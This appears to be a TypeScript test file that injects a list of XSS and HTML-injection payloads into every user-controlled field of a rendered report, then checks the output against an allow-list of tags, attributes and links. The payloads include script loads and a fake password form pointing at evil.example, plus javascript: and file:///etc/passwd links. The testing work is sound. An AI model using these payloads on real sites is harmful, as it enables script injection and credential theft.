// Reports for pages: as they are played, and with all that strangers write turned against the page.

import { hostileMessages, hostileNames, hostileTitles } from '@hotfix-actions/testing';
import type { Element, Nodes } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import type { Report } from '../report.ts';

/** HTML, with which strangers would take over a page. */
export const attacks: readonly string[] = [
  '<script>window.pwned = 1</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<img src=x onerror="alert(1)">',
  '<img src="https://evil.example/x.png" alt="a picture">',
  '<svg onload=alert(1)><style>*{display:none}</style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>',
  '<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example>',
  '<form action=https://evil.example><input type=password autofocus><button>Sign in</button></form>',
  '<a href="javascript:alert(1)">a</a> <a href="JaVaScRiPt&colon;alert(1)">b</a> <a href="\u0001javascript:alert(1)">c</a>',
  '<a href="data:text/html,<script>alert(1)</script>">d</a> <a href="//evil.example">e</a> <a href="/etc/passwd">f</a>',
  '[g](javascript:alert(1)) [h](<java\tscript:alert(1)>) ![i](javascript:alert(1)) [j](file:///etc/passwd)',
  '</div></div></article></section></main></body></html><h1>mine</h1>',
  '</title></style></textarea></script><b style="position:fixed;inset:0" class=verdict id=checks onclick=alert(1)>mine</b>',
  '<details><summary>open</summary><table><tr><td>',
  '<plaintext>',
  '<xmp>',
  '<textarea>',
  '<title>',
  '<!--',
  '<![CDATA[',
  '<?x',
  '<template><p>x</template>',
  '<p tabindex=5 accesskey=a contenteditable>x</p>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '` onmouseover=alert(1) `',
  '<div>'.repeat(3_000),
  '>'.repeat(2_000),
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [k](https://evil.example)',
  '> [!CAUTION]\n> <img src=x onerror=alert(1)>',
  '| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x> |',
];

/** What fits on a line, and what does not. */
const lines = [
  ...hostileTitles,
  ...attacks.filter((text) => !text.includes('\n') && text.length < 300),
  ...hostileNames,
];
const bodies = [...hostileMessages, ...attacks, ...hostileTitles];

/** The report with a hostile text wherever a stranger could put one. */
export function hostileReport(report: Report): Report {
  const line = taking(lines);
  const body = taking(bodies);
  const { shown, histories, steps, outcome } = report;
  const history = ({ commits, branches, tags, cut }: typeof histories.before) => ({
    cut,
    commits: commits.map((commit) => ({ ...commit, author: line(), subject: line() })),
    branches: [...branches, ...commits.map(({ sha }) => ({ name: line(), sha }))],
    tags: [...tags, ...commits.map(({ sha }) => ({ name: line(), sha }))],
  });
  const talk = (one: (typeof shown.conversations)[number], index: number) => ({
    ...one,
    title: line(),
    user: line(),
    labels: [line(), line()],
    ways: one.ways && { ...one.ways, head: line(), base: line() },
    body: body(),
    comments: index > 0 ? [] : bodies.map((text) => ({ user: line(), body: text })),
  });
  return {
    ...report,
    title: line(),
    notes: lines,
    missing: lines,
    workflow: bodies.join('\n'),
    outcome: { ...outcome, tag: line(), main: line(), develop: line(), fix: line() },
    checks: lines.map((claim, index) => ({ claim, holds: index % 2 === 0, found: line() })),
    conflicts: lines.map((path) => ({ path, foretold: true, met: false })),
    steps: steps.map((step) => ({
      ...step,
      told: line(),
      moments: [line(), line()],
      ...(step.action && { action: { ...step.action, summary: body(), annotations: [`error: ${body()}`, line()] } }),
    })),
    histories: { before: history(histories.before), after: history(histories.after) },
    shown: {
      ...shown,
      conversations: shown.conversations.map(talk),
      releases: lines.map((tag, index) => ({
        tag,
        name: line(),
        notes: bodies[index % bodies.length] ?? '',
        mark: '',
      })),
    },
  };
}

/** One after another, and again from the first. */
function taking(texts: readonly string[]): () => string {
  let next = 0;
  return () => texts[next++ % texts.length] ?? '';
}

const harmless: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'id', 'rel', 'ariaDescribedBy'],
  code: ['title'],
  details: ['open'],
  div: ['className', 'tabIndex', 'role', 'ariaLabel'],
  h4: ['id'],
  h5: ['id'],
  h6: ['id'],
  input: ['disabled', 'type', 'checked', 'ariaLabel'],
  li: ['id'],
  ol: ['start'],
  p: ['className'],
  td: ['align', 'colSpan', 'rowSpan'],
  th: ['align', 'colSpan', 'rowSpan'],
};

const plain =
  'b blockquote br dd del dl dt em hr i ins kbd pre q rp rt ruby s samp section span strike strong sub summary sup table tbody tfoot thead tr tt ul var';

/** What a browser would find in the HTML of a text beside text and its structure. */
export function dangersIn(html: string): string[] {
  const found: string[] = [];
  const open: Nodes[] = [fromHtml(html, { fragment: true })];
  for (let node = open.pop(); node !== undefined; node = open.pop()) {
    if ('children' in node) open.push(...node.children);
    if (node.type === 'element') found.push(...dangersOf(node));
    else if (node.type !== 'text' && node.type !== 'root') found.push(node.type);
  }
  return found;
}

function dangersOf({ tagName, properties }: Element): string[] {
  const known = harmless[tagName] ?? (plain.split(' ').includes(tagName) ? [] : undefined);
  if (!known) return [tagName];
  const names = Object.keys(properties).filter((name) => !known.includes(name));
  const { href, id, className } = properties;
  const ways =
    href === undefined || /^(https?:\/\/|#(t|s\d+|c\d+(-\d+)?|r\d+)-|#(conversation|release)-\d+$)/.test(String(href));
  const own = [id].every((one) => one === undefined || /^(t|s\d+|c\d+(-\d+)?|r\d+)-/.test(String(one)));
  const classes = [className ?? []]
    .flat()
    .filter((name) => !/^(scroll|alert|alert-title|note|tip|important|warning|caution)$/.test(String(name)));
  return [
    ...names.map((name) => `${tagName} ${name}`),
    ...(ways ? [] : [`leads to ${href}`]),
    ...(own ? [] : [`is named ${id}`]),
    ...classes.map((name) => `looks like ${name}`),
  ];
}
